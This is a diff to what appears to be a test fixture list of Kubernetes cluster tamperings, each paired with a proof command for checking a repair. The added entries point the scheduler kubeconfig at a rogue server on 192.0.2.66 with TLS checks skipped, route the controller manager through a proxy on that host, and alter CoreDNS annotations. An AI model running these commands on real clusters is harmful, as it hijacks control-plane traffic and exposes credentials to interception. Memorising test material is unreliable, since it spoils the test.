@@ -157,6 +157,26 @@ export const clusterTamperings: readonly Tampering[] = [
     proof: { command: "grep -c 192.0.2.66 /etc/kubernetes/scheduler.conf || true", prints: "0" },
   },
   {
+    title: "a scheduler that asks somebody else by a second cluster of its kubeconfig",
+    host: "node2",
+    command:
+      "cd /etc/kubernetes && for edit in 'set-cluster evil --server https://192.0.2.66:6443 --insecure-skip-tls-verify' " +
+      "'set-context --current --cluster evil'; do kubectl --kubeconfig scheduler.conf config $edit >/dev/null; done",
+    rows: [row(controlPlane, "kubernetes-node2", "kubeconfigs")],
+    proof: { command: "grep -c 192.0.2.66 /etc/kubernetes/scheduler.conf || true", prints: "0" },
+  },
+  {
+    title: "a controller manager that asks by way of somebody else",
+    host: "node3",
+    command:
+      "sed -i 's|^    server: .*|&\\n    proxy-url: http://192.0.2.66:3128|' /etc/kubernetes/controller-manager.conf",
+    rows: [row(controlPlane, "kubernetes-node3", "kubeconfigs")],
+    proof: {
+      command: "grep -c proxy-url /etc/kubernetes/controller-manager.conf || true",
+      prints: "0",
+    },
+  },
+  {
     title: "a command that leads elsewhere",
     host: "node2",
     // A copy that works: whatever else is repaired on this host may need it.
@@ -242,6 +262,21 @@ export const clusterTamperings: readonly Tampering[] = [
         "kubectl -n kube-system get deployment coredns -o 'jsonpath={.spec.replicas}'; " +
         "kubectl -n kube-system get configmap kube-proxy -o yaml | grep -c evil || true",
       prints: "20",
+    },
+  },
+  {
+    title: "an annotation by which CoreDNS is measured",
+    host: "workstation",
+    // What somebody puts beside it must outlive the repair.
+    command:
+      "kubectl -n kube-system annotate service kube-dns --overwrite prometheus.io/port=1 example.com/owner=mine",
+    rows: [row("croft:kubernetes:Cluster", "kubernetes", "addons")],
+    inside: haproxy,
+    proof: {
+      command:
+        "kubectl -n kube-system get service kube-dns -o yaml | grep -c 'prometheus.io/port: .9153\\|example.com/owner: mine'; " +
+        "kubectl -n kube-system annotate service kube-dns example.com/owner- >/dev/null",
+      prints: "2",
     },
   },
   {
